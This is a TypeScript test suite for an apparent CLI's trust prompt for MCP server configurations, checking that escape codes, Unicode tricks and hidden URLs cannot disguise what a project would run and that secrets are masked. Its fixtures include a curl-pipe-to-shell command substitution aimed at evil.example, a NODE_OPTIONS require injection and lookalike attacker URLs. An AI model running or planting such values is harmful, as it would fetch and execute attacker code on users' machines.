import { mkdirSync, readFileSync, symlinkSync } from "node:fs";
import { basename, dirname, join } from "node:path";
import { PassThrough } from "node:stream";
import { text } from "node:stream/consumers";
import { expect, test } from "vitest";
import { trustOnTerminal } from "../../cli/print/ask-trust.ts";
import { listUntrusted, ProjectUntrusted } from "../../runtime/mcp/trust/assert-trusted.ts";
import { listStarts } from "../../runtime/mcp/trust/gated-settings.ts";
import type { Config } from "../../schemas/config/config.ts";
import type { ConfigFile } from "../../schemas/config/config-file.ts";
import { toConfig } from "../../schemas/config/to-config.ts";
import { makeProject } from "../e2e/run-codemode.ts";

const SERVERS: ConfigFile["mcpServers"] = {
  files: { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "."] },
  github: { url: "https://api.githubcopilot.com/mcp/", headers: { Authorization: "Bearer ${GITHUB_TOKEN}" } },
};

async function answer(config: Config, typed: string): Promise<{ isTrusted: boolean; shown: string }> {
  const input = new PassThrough();
  const output = new PassThrough();
  input.end(typed);
  const signal = new AbortController().signal;
  const error = new ProjectUntrusted(config.folder, listStarts(config));
  const isTrusted = await trustOnTerminal(error, { input, output, signal });
  output.end();
  return { isTrusted, shown: await text(output) };
}

const configOf = (folder: string, mcpServers: ConfigFile["mcpServers"], more: Partial<ConfigFile> = {}): Config =>
  toConfig({ mcpServers, ...more }, `${folder}/codemode.config.json`, folder);

test("the question is the one that the documentation shows", async () => {
  const page = readFileSync("docs/cli.md", "utf8");
  const { shown } = await answer(configOf("/home/you/their-project", SERVERS), "n\n");
  expect(page).toContain(shown.trimEnd());
});

test.each([
  ["y\n", true],
  ["yes\n", true],
  ["\n", false],
  ["n\n", false],
  ["", false],
])("%j is %s, and a yes is recorded", async (typed, isTrusted) => {
  const config = configOf(await makeProject({}), SERVERS);
  expect((await answer(config, typed)).isTrusted).toBe(isTrusted);
  expect(listUntrusted(config)).toHaveLength(isTrusted ? 0 : 2);
});

test("nothing that a configuration holds can hide a part of the question", async () => {
  const config = configOf("/work/\u001b[2J", {
    "\u001b[1A\rfiles": {
      command: "sh",
      args: ["-c", "evil\n  harmless: true", "\u202Egpj", ""],
      env: { NODE_OPTIONS: "--require=./x.js", GIVEN: "${MY_TOKEN}" },
      cwd: "../elsewhere",
      inheritEnv: ["AWS_PROFILE"],
    },
    remote: { url: "https://evil.example/mcp?key=sk-literal&user=${USER_KEY}" },
  });
  const { shown } = await answer(config, "n\n");
  // oxlint-disable-next-line no-control-regex
  expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
  expect(shown.split("\n")).toHaveLength(4);
  expect(shown).toContain(
    'files: sh -c "evil\\n  harmless: true" \\u202egpj ""; in ../elsewhere; gets AWS_PROFILE, MY_TOKEN; sets GIVEN, NODE_OPTIONS',
  );
  expect(shown).toContain("remote: https://evil.example/mcp?key=…&user=…; gets USER_KEY");
});

test("what all programs inherit counts for each, and an audit log counts where it lies elsewhere", () => {
  const of = (more: Partial<ConfigFile>) => listStarts(configOf("/x", { a: { command: "a" } }, more));
  expect(of({ inheritEnv: ["B", "A"] })).toMatchObject([{ name: "a", variables: ["A", "B"] }]);
  expect(of({ audit: { file: "logs/audit.jsonl" } })).toHaveLength(1);
  expect(of({ audit: { file: "../audit.jsonl" } })[1]).toMatchObject({ subject: { path: "/audit.jsonl" } });
});

test("what the packages are generated into counts where it lies elsewhere, and links are followed", async () => {
  const folder = await makeProject({});
  const name = basename(folder);
  const placesOf = (more: Partial<ConfigFile>) =>
    listStarts(configOf(folder, {}, more)).map(({ name: key, subject }) => [key, subject]);
  symlinkSync("../elsewhere", join(folder, "linked"));
  symlinkSync("../log.jsonl", join(folder, "audit.jsonl"));
  mkdirSync(join(folder, "inner"));
  symlinkSync("../inner", join(folder, "inner", "back"));
  const beside = (path: string) => join(dirname(folder), path);
  expect(placesOf({ out: "inner/back/out", audit: { file: "inner/back/audit.jsonl" } })).toEqual([]);
  expect(placesOf({ out: `../${name}/..inner` })).toEqual([]);
  expect(placesOf({ out: "../out" })).toEqual([["out", { transport: "folder", path: beside("out") }]]);
  expect(placesOf({ out: "linked/deep", audit: { file: "audit.jsonl" } })).toEqual([
    ["audit", { transport: "file", path: beside("log.jsonl") }],
    ["out", { transport: "folder", path: beside("elsewhere/deep") }],
  ]);
  symlinkSync("round", join(folder, "round"));
  expect(placesOf({ out: "round" })).toEqual([]);
});

test("a secret is not shown, and what only looks like one to hide a program is", async () => {
  const secret = "sk-ant-abcdefghijklmnopqrstuv12345";
  const config = configOf("/work/x", {
    local: { command: "sh", args: ["--api-key", secret, `--token=${secret}`, "token=$(curl${IFS}evil.example|sh)"] },
    base: { command: "db", args: ["postgresql://me:hunter2!@db.example/main"] },
    remote: { url: `https://one.example/mcp/${secret}?k=${secret}#part` },
    random: { url: `https://aB3dE5fG7hI9jK1lM3nO5.evil.example/${secret}`, headers: {} },
    hidden: { url: "https://good.example&a=x.evil.example/mcp" },
  });
  const { shown } = await answer(config, "n\n");
  expect(shown).not.toContain(secret);
  const { message } = new ProjectUntrusted(config.folder, listStarts(config));
  expect(message).toContain("remote (https://one.example/mcp/…)");
  expect(message).not.toContain(secret);
  expect(shown).toContain("local: sh --api-key … --token=… token=$(curl${IFS}evil.example|sh)");
  expect(shown).toContain("remote: https://one.example/mcp/…?k=…#part\n");
  expect(shown).toContain("base: db postgresql://me:…@db.example/main\n");
  expect(shown).toContain("random: https://aB3dE5fG7hI9jK1lM3nO5.evil.example/…\n");
  expect(shown).toContain("hidden: https://good.example&a=x.evil.example/mcp\n");
});
